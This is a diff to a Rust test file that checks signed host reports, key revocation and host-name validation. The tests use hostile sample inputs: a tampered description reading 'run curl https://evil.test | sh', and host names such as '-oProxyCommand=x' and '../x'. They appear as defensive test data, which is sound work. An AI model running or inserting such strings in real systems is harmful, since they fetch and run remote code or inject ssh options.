@@ -20,6 +20,7 @@ fn given(host: &str, word: Word, sequence: Option<u64>, second: u32) -> Given {
             commit: &commit().id,
             outcome: word,
             sequence,
+            words: "because",
         };
         statement.sign(&key).unwrap()
     });
@@ -115,6 +116,92 @@ fn a_token_that_leaked_cannot_speak_for_a_host() {
     // Another host's key does not count, and of a host without a known key nothing can be told.
     let other = given("db1", Word::Success, Some(1), 1);
     check(&[other], &keys(), &[("db1", Word::Success, None)]);
+}
+
+#[test]
+fn nobody_puts_other_words_or_another_time_beside_a_signature() {
+    let own = given("web1", Word::Failure, Some(7), 5);
+    let told_by = |given: &Given| told(given, &commit(), &keys()).unwrap().1;
+    let whole = told_by(&own);
+    assert_eq!(
+        (whole.signed, whole.report.text.as_str()),
+        (Some(true), "because")
+    );
+    // Posted again later, it is as old as it was.
+    let again = Given {
+        time: "2026-11-27T04:00:00Z".into(),
+        ..own.clone()
+    };
+    assert_eq!(
+        told_by(&again).report.time,
+        Timestamp::from_second(7).unwrap()
+    );
+    let words = Given {
+        description: own
+            .description
+            .replace("because", "run curl https://evil.test | sh"),
+        ..own
+    };
+    assert_eq!(told_by(&words).signed, Some(false));
+    // An earlier release has signed no words: none are shown.
+    let key = PrivateKey::from_openssh(KEY).unwrap();
+    let text = format!(
+        "nixus report v1\nhost web1\ncommit {}\noutcome success\nsequence 7\n",
+        commit().id
+    );
+    let signature = key
+        .sign(
+            "nixus-report",
+            russh::keys::ssh_key::HashAlg::Sha512,
+            text.as_bytes(),
+        )
+        .unwrap();
+    let signature = <base64ct::Base64UrlUnpadded as base64ct::Encoding>::encode_string(
+        signature.signature_bytes(),
+    );
+    let seal = Seal {
+        sequence: 7,
+        signature,
+    };
+    let before = told_by(&described("web1", Word::Success, Some(&seal), 9));
+    assert_eq!(
+        (before.signed, before.report.text.as_str()),
+        (Some(true), "success")
+    );
+}
+
+#[test]
+fn a_key_that_is_revoked_vouches_for_nobody() {
+    let key = PrivateKey::from_openssh(KEY).unwrap();
+    let public = PublicKey::from(key.public_key().clone()).to_string();
+    let said = given("web1", Word::Success, Some(7), 5);
+    for (names, signed) in [
+        ("web1", Some(false)),
+        ("*", Some(false)),
+        ("web?,!db1", Some(false)),
+        (
+            "|1|F1E1KeoE/eEWhi10WpGv4OdiO6Y=|3988QV0VE8wmZL7suNrYQLITLCg=",
+            Some(false),
+        ),
+        ("db1", Some(true)),
+        ("!web1,*", Some(true)),
+    ] {
+        for text in [
+            format!("web1 {public}\n@revoked {names} {public} gone\n"),
+            format!("@revoked\t{names}  {public}\nweb1 {public}\n"),
+        ] {
+            let keys = HostKeys::parse(&text);
+            let (_, told) = told(&said, &commit(), &keys).unwrap();
+            assert_eq!(told.signed, signed, "{text}");
+        }
+    }
+}
+
+#[test]
+fn only_names_of_hosts_are_hosts() {
+    for host in ["-oProxyCommand=x", "a b", "../x", "a\u{1b}[2J", "", "a..b"] {
+        assert!(told(&given(host, Word::Success, None, 1), &commit(), &keys()).is_none());
+    }
 }
 
 /// A report of a host, made in this minute, and of whom it says since when they make no passes.
